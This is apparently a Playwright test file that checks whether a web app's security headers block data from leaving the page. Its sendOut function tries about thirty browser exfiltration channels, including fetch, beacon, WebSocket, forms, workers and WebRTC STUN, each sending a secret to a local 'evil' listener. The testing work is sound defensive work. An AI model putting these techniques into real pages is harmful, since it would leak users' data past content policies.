// SPDX-License-Identifier: MIT
// Code that got into the page tries to send something out, in every way it can think of. Another server on this machine
// listens for requests, bytes and packets. A control page without policy shows that the attempts work.
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { createServer as createHttpServer } from "node:http";
import { createServer as createTcpServer } from "node:net";
import type { AddressInfo, Socket } from "node:net";
import { securityHeaders } from "../../scripts/security-headers.mjs";
import { expect, open, test } from "./fixtures.ts";

const secret = "quillwort";

/** What reached the other server. */
interface Evil {
  address: string;
  port: number;
  requests: string[];
  /** Bytes that came over any connection. A browser may open one ahead of what it then refuses; it carries nothing. */
  byteCount: () => number;
  packetCount: () => number;
}

const probe = test.extend<{ evil: Evil; bare: string }>({
  evil: async ({}, use) => {
    const requests: string[] = [];
    const sockets: Socket[] = [];
    let packets = 0;
    const http = createHttpServer((request, response) => {
      requests.push(`${request.method} ${request.url}`);
      response.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end();
    });
    const tcp = createTcpServer((socket) => {
      sockets.push(socket);
      http.emit("connection", socket);
    }).listen(0, "127.0.0.1");
    await once(tcp, "listening");
    const { port } = tcp.address() as AddressInfo;
    const udp = createSocket("udp4").on("message", () => (packets += 1));
    udp.bind(port, "127.0.0.1");
    await once(udp, "listening");
    await use({
      address: `http://127.0.0.1:${port}`,
      port,
      requests,
      byteCount: () => sockets.reduce((sum, { bytesRead }) => sum + bytesRead, 0),
      packetCount: () => packets,
    });
    http.closeAllConnections();
    tcp.close();
    udp.close();
  },
  /** A page without any policy. */
  bare: async ({}, use) => {
    const server = createHttpServer((_request, response) => {
      response.setHeader("Content-Type", "text/html");
      response.end("<!doctype html><title>bare</title><body>");
    }).listen(0, "localhost");
    await once(server, "listening");
    await use(`http://localhost:${(server.address() as AddressInfo).port}/`);
    server.close();
    server.closeAllConnections();
  },
  watch: async ({}, use) => use({ problems: [], foreign: [] }), // refusals are reported as errors: they are the point
});

/** Runs in the page. Each way is named in the address, so that a leak can be told. */
async function sendOut({ address, port, text }: { address: string; port: number; text: string }) {
  const to = (way: string) => `${address}/${way}?${text}`;
  const add = (tag: string, set: Record<string, string>) => {
    const element = Object.assign(document.createElement(tag), set);
    document.body.append(element);
  };
  const frame = document.createElement("iframe");
  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(to("fetch"), { mode: "no-cors" }),
    keepalive: () =>
      fetch(to("keepalive"), { mode: "no-cors", method: "POST", keepalive: true, body: text }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open("POST", to("xhr"));
      request.send(text);
    },
    beacon: () => navigator.sendBeacon(to("beacon"), text),
    image: () => (new Image().src = to("image")),
    socket: () => new WebSocket(to("socket").replace("http", "ws")),
    events: () => new EventSource(to("events")),
    script: () => add("script", { src: to("script") }),
    module: () => import(/* @vite-ignore */ to("module")),
    style: () => add("link", { rel: "stylesheet", href: to("style") }),
    prefetch: () => add("link", { rel: "prefetch", href: to("prefetch") }),
    preload: () => add("link", { rel: "preload", as: "fetch", href: to("preload") }),
    modulepreload: () => add("link", { rel: "modulepreload", href: to("modulepreload") }),
    preconnect: () => add("link", { rel: "preconnect", href: address }),
    prerender: () =>
      add("script", {
        type: "speculationrules",
        text: JSON.stringify({ prefetch: [{ source: "list", urls: [to("prerender")] }] }),
      }),
    icon: () => add("link", { rel: "icon", href: to("icon") }),
    manifest: () => add("link", { rel: "manifest", href: to("manifest") }),
    video: () => add("video", { src: to("video"), preload: "auto" }),
    object: () => add("object", { data: to("object") }),
    embed: () => add("embed", { src: to("embed") }),
    frame: () => document.body.append(Object.assign(frame, { src: to("frame") })),
    font: () => new FontFace("f", `url(${to("font")})`).load(),
    background: () => (document.body.style.backgroundImage = `url(${to("background")})`),
    form: () => {
      const form = Object.assign(document.createElement("form"), {
        action: to("form"),
        method: "post",
      });
      form.target = "elsewhere";
      document.body.append(form);
      form.submit();
    },
    worker: () => new Worker(to("worker")),
    blobWorker: () =>
      new Worker(URL.createObjectURL(new Blob([`fetch("${to("blobWorker")}",{mode:"no-cors"})`]))),
    serviceWorker: () => navigator.serviceWorker.register(to("serviceWorker")),
    open: () => window.open(to("open")),
    stun: async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
      peer.createDataChannel(text);
      await peer.setLocalDescription(await peer.createOffer());
    },
  };
  for (const way of Object.values(ways)) {
    try {
      await Promise.race([way(), new Promise((done) => setTimeout(done, 50))]);
    } catch {
      // refused: as it should be
    }
  }
  return Object.keys(ways).length;
}

const navigateAway = (address: string) => {
  location.href = `${address}/navigation?quillwort`;
};

probe(
  "control: without a policy the attempts reach the other server",
  async ({ page, evil, bare }) => {
    await page.goto(bare);

    await page.evaluate(sendOut, { address: evil.address, port: evil.port, text: secret });

    await expect.poll(() => evil.requests.length).toBeGreaterThan(12);
    await expect.poll(() => evil.packetCount()).toBeGreaterThan(0);
    expect(evil.byteCount()).toBeGreaterThan(0);
  },
);

probe(
  "with the headers nothing reaches another server, not a byte and not a packet",
  async ({ page, evil }) => {
    await open(page);
    const { address, port } = evil;

    const tried = await page.evaluate(sendOut, { address, port, text: secret });
    await page.evaluate(navigateAway, address).catch(() => undefined);
    await page.waitForTimeout(1500); // what did not come cannot be waited for

    expect(tried).toBeGreaterThan(25);
    expect(evil.requests).toEqual([]);
    expect(evil.packetCount()).toBe(0);
    expect(evil.byteCount()).toBe(0);
  },
);

probe(
  "on a server that sends no headers, page and guard let nothing through either",
  async ({ page, evil }) => {
    await page.route("**/*", async (route) => {
      const response = await route.fetch();
      const headers = response.headers();
      for (const name of Object.keys(securityHeaders())) delete headers[name.toLowerCase()];
      await route.fulfill({ response, headers });
    });
    await open(page);
    const { address, port } = evil;

    await page.evaluate(sendOut, { address, port, text: secret });
    await page.evaluate(navigateAway, address).catch(() => undefined);
    await page.waitForTimeout(1500);

    expect(evil.requests).toEqual([]);
    expect(evil.packetCount()).toBe(0);
    await expect(page).toHaveTitle(/Trellis/);
    await page.unrouteAll({ behavior: "wait" }); // an answer still on its way must not outlive the page
  },
);
